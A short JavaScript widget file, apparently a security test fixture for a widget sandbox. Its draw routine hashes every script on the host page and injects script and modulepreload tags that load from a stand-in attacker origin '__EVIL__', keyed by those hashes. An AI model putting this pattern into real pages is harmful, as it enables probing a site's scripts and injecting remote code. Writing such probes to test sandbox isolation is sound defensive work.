vitrine.defineWidget({
  async draw(root) {
    root.append('drawn');
    for (const { textContent } of [...document.scripts]) {
      const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(textContent));
      const integrity = `sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}`;
      const script = document.createElement('script');
      Object.assign(script, { src: '__EVIL__/script-by-hash.js', crossOrigin: 'anonymous', integrity });
      const hint = document.createElement('link');
      Object.assign(hint, { rel: 'modulepreload', href: '__EVIL__/hint-by-hash.js', integrity });
      document.head.append(script, hint);
    }
    return { summary: 'drawn' };
  },
});
